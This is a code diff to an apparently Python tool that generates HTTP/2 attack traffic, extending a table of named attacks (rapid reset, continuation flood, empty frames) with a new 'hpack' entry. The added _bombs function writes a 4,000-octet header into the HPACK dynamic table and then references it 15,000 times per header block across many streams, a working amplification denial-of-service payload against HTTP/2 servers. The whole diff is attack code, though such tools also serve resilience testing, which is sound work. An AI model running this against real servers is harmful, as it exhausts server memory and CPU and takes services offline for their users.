@@ -21,6 +21,9 @@ _INITIAL_WINDOW_SIZE = 4
 _CANCEL = 8
 _AUTHORITY, _GET, _POST, _PATH, _HTTPS = 1, 2, 3, 4, 7  # indexes of the static table
 LONG_PATH: Final = 60_000  # octets
+_ENTRY: Final = 4_000  # octets: nearly all of the table's
+_NEWEST: Final = 0x80 | 62  # index of the table
+_TIMES: Final = 15_000
 
 
 class Frame(NamedTuple):
@@ -161,6 +164,14 @@ def _more(count: int) -> bytes:
     return frame(CONTINUATION, 0, 1, field) * count
 
 
+def _bombs(first: int, count: int, path: str) -> bytes:
+    """A field enters the table of the connection with its first block, and stands in each many times."""
+    entry = b"\x40" + _string(b"x") + _string(b"y" * _ENTRY)
+    block = header_block(path) + bytes((_NEWEST,)) * _TIMES
+    opened = request(first, header_block(path) + entry) if first == 1 else b""
+    return opened + b"".join(request(each, block) for each in _streams(first + 2, count))
+
+
 ATTACKS: Final = {
     "reset": Attack(1_000, _resets),
     "requests": Attack(1_000, _requests),
@@ -169,4 +180,5 @@ ATTACKS: Final = {
     "paths": Attack(50, _paths),
     "empty": Attack(10_000, _empty),
     "continuation": Attack(10_000, _continuations),
+    "hpack": Attack(50, _bombs),
 }
